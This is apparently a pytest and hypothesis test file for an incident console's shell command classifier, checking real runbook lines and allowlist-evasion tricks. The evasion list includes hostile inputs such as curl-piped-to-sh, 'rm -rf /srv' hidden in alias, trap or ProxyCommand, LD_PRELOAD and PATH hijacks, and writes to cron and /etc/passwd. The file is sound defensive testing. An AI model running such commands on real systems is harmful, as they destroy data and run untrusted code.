"""The command classifier: real command lines from the corpus with the class they must get,
and hypothesis over arbitrary argv and shell text (never raises, never calls an unknown
program read-only).

The lines are taken from tests/fixtures/runbooks/corpus/ (placeholders as the importer fills
them: `<container>` is `{{container}}`). Codes: R read-only, C changes, N never ends,
I interactive (RN: reads only but never ends).
"""

from __future__ import annotations

import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from incident_console.domain.command_table import RULES
from incident_console.domain.commands import CommandClass, classify_argv, classify_shell

CORPUS_LINES: list[tuple[str, str]] = [
    # autoshiftops-container-troubleshooting-playbook.md
    ("docker inspect {{container}} --format '{{.State.OOMKilled}}'", "R"),
    ("docker inspect {{container}} --format '{{.State.ExitCode}}'", "R"),
    ('dmesg -T | grep -i "killed process"', "R"),
    ("docker update --memory 2g {{container}}", "C"),
    ("docker stats --no-stream", "R"),
    ("docker inspect {{container}} --format '{{.Id}}'", "R"),
    ("cat /sys/fs/cgroup/cpu/docker/{{long_id}}/cpu.stat", "R"),
    ("docker update --cpus 0 {{container}}", "C"),
    ("iostat -x 1 5", "R"),
    ("pidstat -d 1", "RN"),
    ("docker inspect --format '{{.State.Pid}}' {{container}}", "R"),
    ("docker update --blkio-weight 100 {{container}}", "C"),
    ("docker exec -it {{source_container}} sh", "CI"),
    ("ping {{target_container_name}}", "RN"),
    ("nc -zv {{target_container_name}} {{port}}", "R"),
    ("cat /etc/resolv.conf", "R"),
    ("docker exec {{container}} nc -zv {{target}} {{port}}", "R"),
    # chrisguest75-out-of-memory.md
    ("docker build -t oom .", "C"),
    ("docker events", "RN"),
    ("docker stats", "RN"),
    ("docker run -it --rm --memory=400m --name oom oom", "CI"),
    ("docker run -it --rm --entrypoint /bin/bash --name oom oom", "CI"),
    ("docker run -it --privileged --pid=host debian nsenter -t 1 -m -u -n -i sh", "CI"),
    ("dmesg", "R"),
    ("watch -n 1 docker ps", "RN"),
    ('sudo sysdig container.id=$(docker ps -aqf "name=oom")', "C"),
    ("docker run -d -v $(pwd):/captures -p8080:3000 sysdig/sysdig-inspect:latest", "C"),
    # deepaucksharma-container-startup-oom-kills.md
    ("kubectl get pods --all-namespaces --field-selector=status.phase!=Running", "R"),
    ("kubectl top pods --all-namespaces --sort-by=memory", "R"),
    ("kubectl get events --sort-by='.lastTimestamp' | head -20", "R"),
    ('docker ps -a --format "table {{.Names}}\\t{{.Status}}\\t{{.Size}}"', "R"),
    ('grep -i "oom" /var/log/messages | tail -20', "R"),
    (
        "kubectl get pods --all-namespaces -o jsonpath="
        "'{.items[?(@.status.containerStatuses[*].restartCount>0)].metadata.name}'",
        "R",
    ),
    ('kubectl describe pod {{pod_name}} | grep -A 5 -B 5 "OOMKilled"', "R"),
    ("kubectl top pod {{pod_name}} --containers", "R"),
    ("kubectl logs {{pod_name}} --previous | tail -50", "R"),
    ("kubectl logs {{pod_name}} -c {{container}} --previous", "R"),
    ('kubectl get pod {{pod_name}} -o yaml | grep -A 10 -B 10 "resources\\|image\\|command"', "R"),
    ("docker logs {{container}} --tail 50", "R"),
    ("docker inspect {{container}} | jq '.State'", "R"),
    ('kubectl describe nodes | grep -A 5 "Allocated resources"', "R"),
    ("kubectl top nodes", "R"),
    ("free -h", "R"),
    ('cat /proc/meminfo | grep -E "(MemAvailable|MemFree|Buffers|Cached)"', "R"),
    (
        "kubectl top pod {{pod_name}} --containers | while read line; do\n"
        '    echo "$(date): $line"\n    sleep 60\ndone',
        "R",
    ),
    ("kubectl exec {{pod_name}} -- jstat -gc 1 5s", "C"),
    (
        'kubectl patch deployment {{deployment_name}} -p \'{"spec":{"template":{"spec":'
        '{"containers":[{"name":"{{container}}","resources":{"limits":{"memory":"4Gi"}}}]}}}}\'',
        "C",
    ),
    ("kubectl exec {{pod_name}} -- curl -s localhost:8080/actuator/heapdump > heapdump.hprof", "C"),
    ("kubectl exec {{pod_name}} -- nslookup database-service", "R"),
    ("kubectl exec {{pod_name}} -- curl -v database-service:5432", "R"),
    ('kubectl exec {{pod_name}} -- env | grep -E "(DB_|API_|CONFIG_)"', "R"),
    ("docker pull {{image_name}}:{{tag}}", "C"),
    ("kubectl get secret {{registry_secret}} -o yaml", "R"),
    ("docker login {{registry_url}}", "C"),
    ("kubectl get pods --all-namespaces --field-selector=status.phase=Pending", "R"),
    # dpark2025-high-memory-usage.md
    ("top -o %MEM", "RI"),
    ("ps aux --sort=-%mem | head -10", "R"),
    ("cat /proc/meminfo", "R"),
    ("vmstat 1 5", "R"),
    ("redis-cli FLUSHALL", "C"),
    ("memcached -f", "C"),
    ("echo 3 > /proc/sys/vm/drop_caches", "C"),
    # mrpatt025-incident-response.md
    ("docker-compose ps", "R"),
    ("docker-compose restart backend", "C"),
    ("docker-compose logs backend --tail 50", "R"),
    ("curl http://localhost:5000/api/v1/health", "R"),
    ("docker-compose exec backend node -e \"console.log('DB test')\"", "C"),
    ("cp backend/database.sqlite backend/database.backup.$(date +%s).sqlite", "C"),
    ("docker-compose down", "C"),
    ("docker-compose up -d", "C"),
    ("docker-compose up -d --scale backend=3", "C"),
    ("docker-compose exec redis redis-cli FLUSHALL", "C"),
    ("curl http://localhost:9090/api/v1/query?query=http_request_duration_seconds", "R"),
    # nandan29300-docker-service-runbook.md
    ("ps aux | grep dockerd", "R"),
    ("systemctl status docker", "R"),
    ("ps -o pid,pcpu,pmem,vsz,rss,comm -C dockerd", "R"),
    ("df -h", "R"),
    ("docker system df", "R"),
    ("du -sh /var/lib/docker/* 2>/dev/null | sort -rh | head -10", "R"),
    ("du -sh /var/lib/docker/containers/*/''*-json.log 2>/dev/null | sort -rh | head -5", "R"),
    # phuocbt9x-oom-solutions.md
    ("docker inspect {{container}} --format='{{.State.ExitCode}}'", "R"),
    ("dmesg | grep -i oom", "R"),
    ("docker stats {{container}}", "RN"),
    ("docker run -m 512m app", "C"),
    # raqibdev-docker-compose-operations.md
    (
        "cd /home/raqib/cloud-devops-projects/practical-observability-blueprint\n"
        "docker compose up -d",
        "C",
    ),
    ("docker compose up --build -d", "C"),
    ("docker compose up -d api", "C"),
    ("docker compose up", "CN"),
    ("docker compose stop", "C"),
    ("docker compose down -v", "C"),
    ("docker compose restart grafana", "C"),
    ("docker compose up -d --force-recreate", "C"),
    ("docker compose logs", "R"),
    ("docker compose logs -f", "RN"),
    ("docker compose logs -f prometheus", "RN"),
    ("docker compose logs --tail=100 api", "R"),
    ("docker compose logs -t api", "R"),
    ("docker compose logs > all_logs.txt 2>&1", "C"),
    ("docker compose logs api > api_logs.txt 2>&1", "C"),
    ("docker compose ps -a", "R"),
    ("docker compose build --no-cache", "C"),
    ("docker compose exec api /bin/sh", "CI"),
    ("docker compose exec api env", "R"),
    ("docker compose exec prometheus promtool check config /etc/prometheus/prometheus.yml", "C"),
    ("docker compose rm", "C"),
    ("docker system prune -f", "C"),
    ("docker system prune -a -f", "C"),
    ("docker volume prune -f", "C"),
    ("docker compose logs {{service}}", "R"),
    ("docker compose build --no-cache {{service}}", "C"),
    ("lsof -i :{{port_number}}", "R"),
    ("netstat -tlnp | grep {{port_number}}", "R"),
    ("docker network ls", "R"),
    ("docker network inspect practical-observability-blueprint_default", "R"),
    ("docker events --filter 'container={{service}}' --since 1h", "RN"),
    ("docker compose logs > backup_logs_$(date +%Y%m%d).txt 2>&1", "C"),
    ("docker compose config > full_config.yml", "C"),
    ("docker volume ls", "R"),
    ("docker compose config", "R"),
    ("docker compose config --services", "R"),
    ("docker compose config --format json | jq", "R"),
    ("docker compose down --remove-orphans", "C"),
    ("docker kill $(docker ps -q)", "C"),
    ("docker rm $(docker ps -aq)", "C"),
    # turothereal-disk-full-logs.md
    (
        'sudo find /var/lib/docker/containers -name "*-json.log" -size +100M -exec ls -lh {} \\;',
        "R",
    ),
    (
        'sudo find /var/lib/docker/containers -name "*-json.log" -size +100M '
        "-exec truncate -s 0 {} \\;",
        "C",
    ),
    ("docker inspect backend --format '{{.HostConfig.LogConfig}}'", "R"),
    ("sudo du -sh /* 2>/dev/null | sort -hr | head -10", "R"),
    ("docker-compose up -d --force-recreate", "C"),
    (
        'for log in $(sudo find /var/lib/docker/containers -name "*-json.log"); do\n'
        '  size=$(du -h "$log" | cut -f1)\n'
        "  container_id=$(echo \"$log\" | grep -oP '/containers/\\K[^/]+')\n"
        '  container_name=$(docker inspect "$container_id" 2>/dev/null '
        "--format '{{.Name}}' | sed 's/\\///' || echo \"stopped\")\n"
        '  echo "$size - $container_name ($container_id)"\n'
        "done | sort -hr | head -10",
        "R",
    ),
    # vineetkn-host-out-of-disk-space.md
    ("docker system prune", "C"),
    ("docker system prune -a --volumes", "C"),
    ("docker volume ls -f dangling=true", "R"),
    ("docker volume rm $(docker volume ls -qf dangling=true)", "C"),
    ('docker images --format "{{.Repository}}:{{.Tag}}\\t{{.Size}}"', "R"),
    ("docker rmi {{image_id}}", "C"),
    ("sudo du -sh /var/lib/docker/*", "R"),
    ("docker system prune -a --volumes -f", "C"),
]

#: What the issue saw imported as `diagnose`, and the never-ending and interactive ones.
ISSUE_LINES: list[tuple[str, str]] = [
    ("truncate -s 0 /var/lib/docker/containers/*/*-json.log", "C"),
    ("docker image prune -a -f", "C"),
    ("docker volume prune --force", "C"),
    ("docker rmi $(docker images -q)", "C"),
    ("docker update --memory=4g --memory-swap=4g database", "C"),
    ("pkill -f gunicorn", "C"),
    ("update-grub", "C"),
    ("kubectl delete pod web-1", "C"),
    ("kubectl scale deployment web --replicas=5", "C"),
    ("kubectl rollout undo deployment/web", "C"),
    ("docker compose build --no-cache", "C"),
    ("psql -U postgres -c \"ALTER SYSTEM SET shared_buffers = '1GB'\"", "C"),
    ("ping db", "RN"),
    ("ping -c 3 db", "R"),
    ("pidstat 1", "RN"),
    ("tail -f /var/log/syslog", "RN"),
    ("tail -n 100 /var/log/syslog", "R"),
    ("dockerd --debug", "C"),
    ("docker events --until 5m", "R"),
    ("bash", "CI"),
    ("psql -U postgres", "CI"),
    ("rm -f /tmp/x", "C"),
    ("docker logs -f web", "RN"),
    ("journalctl -fu docker", "RN"),
    ("journalctl -u docker -n 50 --no-pager", "R"),
    ("journalctl --vacuum-time=2d", "C"),
    ("dmesg -C", "C"),
    ("dmesg -w", "RN"),
    ("timeout 30 dmesg -w", "R"),
    ("top -b -n 1", "R"),
    ("vmstat 1", "RN"),
    ("sed -i 's/4/2/' docker-compose.yml", "C"),
    ("sed -n '1,20p' docker-compose.yml", "R"),
    ("awk '{print $1}' /proc/meminfo", "R"),
    ("awk '{print $1 > \"/tmp/out\"}' /proc/meminfo", "C"),
    ("awk 'BEGIN {system(\"reboot\")}'", "C"),
    ("curl -X POST http://localhost/restart", "C"),
    ("curl -o /tmp/page http://localhost/", "C"),
    ("curl -d 'a=1' http://localhost/", "C"),
    ("docker ps | tee /tmp/ps.txt", "C"),
    ("docker ps | tee", "R"),
    ("sort -o /etc/passwd /etc/passwd", "C"),
    ("ssh deploy@203.0.113.10 'docker stats --no-stream'", "R"),
    ("ssh deploy@203.0.113.10 'docker restart web'", "C"),
    ("sudo docker ps", "R"),
    ("sudo -i", "CI"),
    ("env FOO=1 docker ps", "R"),
    ("nice -n 10 docker ps", "R"),
    ("sh -c 'docker ps; docker rm -f web'", "C"),
    ("echo $(docker rm -f web)", "C"),
    ("docker ps && docker restart web", "C"),
    ("docker ps || docker restart web", "C"),
    ("free -m; free -s 1", "RN"),
    ("while true; do docker ps; sleep 5; done", "RN"),
    ("docker ps &", "RN"),
    ("systemctl restart docker", "C"),
    ("systemctl is-active docker", "R"),
    ("$CMD ps", "C"),
    ("docker $SUB web", "C"),
]

#: Ways around an allowlist that a shell offers: each must still be called changing.
EVASIONS: list[tuple[str, str]] = [
    ("sed {-i,s/4/2/,docker-compose.yml}", "C"),  # bash brace expansion makes -i
    ("sed 's/4/2/' *", "C"),  # a file named -i in the directory
    ("./docker ps", "C"),  # a script called docker
    ("/usr/bin/docker ps", "R"),
    ("PATH=/tmp/x:$PATH docker ps", "C"),
    ("export LD_PRELOAD=/tmp/x.so; docker ps", "C"),
    ("env PATH=/tmp docker ps", "C"),
    ('export "$SETTING"; docker ps', "C"),  # SETTING=PATH=/tmp/x
    ("alias docker='rm -rf /srv'; docker ps", "C"),
    ("trap 'rm -rf /srv' EXIT; docker ps", "C"),
    ("'X=1' cat /etc/hosts", "C"),
    ("ssh -o ProxyCommand='rm -rf /srv' host 'docker ps'", "C"),
    ("docker ps > /etc/cron.d/x", "C"),
    ("docker ps 2>/tmp/err", "C"),
    ("docker ps 2>/dev/null", "R"),
    ("docker ps >&2", "R"),
    ("exec 3<>/etc/passwd", "C"),
    ("{ docker ps; } > /tmp/out", "C"),
    ("cat <<EOF > /tmp/x\nhello\nEOF", "C"),
    ("cat <<EOF\n$(rm -rf /srv)\nEOF", "C"),
    ("cat <<'EOF'\n$(rm -rf /srv)\nEOF", "R"),
    ("cat /etc/hosts | xargs rm", "C"),
    ("docker ps -q | xargs docker inspect", "R"),
    ("find /srv -name '*.log' -delete", "C"),
    ("find /srv -name '*.log' -exec rm {} +", "C"),
    ("sed -n 'w /etc/passwd' /etc/hosts", "C"),
    ("sed 's/a/b/w /tmp/x' /etc/hosts", "C"),
    ("awk '{print | \"sh\"}' /etc/hosts", "C"),
    ("ss -K dst 10.0.0.1", "C"),
    ("ss -tulpn", "R"),
    ("journalctl --cursor-file=/tmp/c", "C"),
    ("nohup docker ps", "C"),
    ('sh -c "$(curl -s http://x/install.sh)"', "C"),
    ("bash -c 'docker ps'", "R"),
    ("bash script.sh", "C"),
    ("sudo sh -c 'echo 1 > /proc/sys/vm/drop_caches'", "C"),
    ("watch -n 1 'docker ps; docker rm -f web'", "CN"),
    ("docker exec web sh -c 'rm -rf /data'", "C"),
    ("docker exec web cat /sys/fs/cgroup/memory.max", "R"),
    ("kubectl exec web -- rm -rf /data", "C"),
    ('echo "$(docker restart web)"', "C"),
    ("echo `docker restart web`", "C"),
    ("cat <(docker restart web)", "C"),
    ("if docker ps; then docker restart web; fi", "C"),
    ("if docker ps; then echo ok; fi", "R"),
    ("case x in x) rm -rf /srv;; esac", "C"),
    ("docker ps 'unclosed", "C"),
]


def _code(found: CommandClass) -> str:
    return (
        ("C" if found.changes else "R")
        + ("N" if found.never_ends else "")
        + ("I" if found.interactive else "")
    )


def test_there_are_at_least_a_hundred_corpus_lines() -> None:
    assert len(CORPUS_LINES) >= 100
    assert len({line for line, _ in CORPUS_LINES}) == len(CORPUS_LINES)


@pytest.mark.parametrize(("line", "expected"), CORPUS_LINES + ISSUE_LINES + EVASIONS)
def test_real_command_lines_get_their_class(line: str, expected: str) -> None:
    found = classify_shell(line)
    assert _code(found) == expected, f"{line!r}: {found}"
    assert found.reason


def test_the_builtin_runbooks_diagnose_commands_are_read_only() -> None:
    from incident_console.runbook.loader import load_runbook

    runbook = load_runbook("oom-after-deploy")
    for step in runbook.steps:
        found = step.command_class
        if step.kind == "diagnose" and found is not None:
            assert not found.changes and not found.never_ends, (step.id, found)


def test_argv_is_literal_an_assignment_is_a_program() -> None:
    assert classify_argv(["FOO=1", "cat", "/etc/hosts"]).changes
    assert not classify_shell("FOO=1 cat /etc/hosts").changes
    assert classify_shell("'FOO=1' cat /etc/hosts").changes
    assert not classify_argv(["docker", "logs", "--tail", "200", "web"]).changes


def test_a_snippet_argv_is_classified_with_its_parameters() -> None:
    # What schema.snippet_argv makes of a runbook's shell step: values are $1.., known here.
    argv = ["sh", "-c", 'docker logs --tail 200 "${1}"', "runbook-step", "web"]
    assert classify_argv(argv).read_only
    argv = ["sh", "-c", 'docker "${1}" web', "runbook-step", "restart"]
    assert classify_argv(argv).changes


def test_labels_and_summary() -> None:
    assert classify_shell("docker ps").label == "read-only"
    assert classify_shell("docker restart web").label == "changes"
    assert classify_shell("docker logs -f web").label == "never-ends"
    assert classify_shell("docker exec -it web sh").label == "interactive"
    assert classify_shell("docker compose up").summary == "changes the server, never ends"


FUZZ = settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
_WORDS = st.one_of(
    st.text(max_size=12),
    st.sampled_from(
        ["-f", "-it", "--no-stream", "|", ";", "&&", ">", "$(", ")", "'", '"', "`", "\\", "<<",
         "EOF", "\n", "-c", "sh", "docker", "logs", "ps", "{{x}}", "${A", "#", "for", "done"]
    ),
)  # fmt: skip
_RESERVED = {"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "case",
             "esac", "{", "}", "!", "time", "in", "select", "function"}  # fmt: skip


def _unknown(program: str) -> bool:
    name = program.rsplit("/", 1)[-1] if "/" in program else program
    return name not in RULES and program not in _RESERVED


@FUZZ
@given(st.lists(_WORDS, max_size=12))
def test_argv_classifier_never_raises(argv: list[str]) -> None:
    found = classify_argv(argv)
    assert isinstance(found, CommandClass) and found.reason


@FUZZ
@given(st.lists(_WORDS, max_size=16).map(" ".join))
def test_shell_classifier_never_raises(text: str) -> None:
    found = classify_shell(text)
    assert isinstance(found, CommandClass) and found.reason


@FUZZ
@given(st.text(min_size=1, max_size=20).filter(_unknown), st.lists(_WORDS, max_size=8))
def test_an_unknown_program_is_never_read_only(program: str, args: list[str]) -> None:
    assert classify_argv([program, *args]).changes
    # The same argv as shell text, quoted as transport does it.
    assert classify_shell(shlex.join([program, *args])).changes
